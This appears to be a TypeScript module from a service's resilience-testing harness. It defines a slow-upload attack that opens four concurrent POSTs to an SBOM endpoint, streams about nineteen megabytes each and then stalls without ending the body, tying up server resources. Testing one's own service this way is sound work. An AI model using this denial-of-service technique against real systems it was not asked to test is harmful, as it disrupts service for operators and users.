import type { Attack } from './attack.ts';

/** More than a caller may have under way; each costs the sender as much as the service. */
const AT_ONCE = 4;
const CHUNK = new Uint8Array(1 << 20).fill(0x20);

/** A few bodies of twenty megabytes at once, each without its end: the sender falls silent and waits. */
export const silentUploads: Attack = async (url, { signal, fetch: send }) => {
  await Promise.allSettled(
    Array.from({ length: AT_ONCE }, async () => {
      const response = await send(`${url}/api/v1/sbom/time-travel`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: endless(19),
        duplex: 'half',
        signal,
      });
      await response.arrayBuffer();
    }),
  );
};

/** So many chunks, and then nothing, for as long as the reader waits. */
function endless(chunks: number): ReadableStream<Uint8Array> {
  let sent = 0;
  return new ReadableStream({
    pull(controller) {
      sent += 1;
      if (sent > chunks) return new Promise<void>(() => {});
      controller.enqueue(CHUNK);
      return undefined;
    },
  });
}
